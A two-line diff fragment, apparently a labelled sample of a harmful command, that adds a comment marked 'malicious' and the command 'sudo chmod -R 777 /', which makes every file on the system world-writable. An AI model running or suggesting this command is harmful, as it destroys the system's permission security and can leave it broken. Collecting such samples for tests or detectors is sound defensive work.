@@ -1,0 +1,2 @@
+# malicious: opens the whole system
+sudo chmod -R 777 /
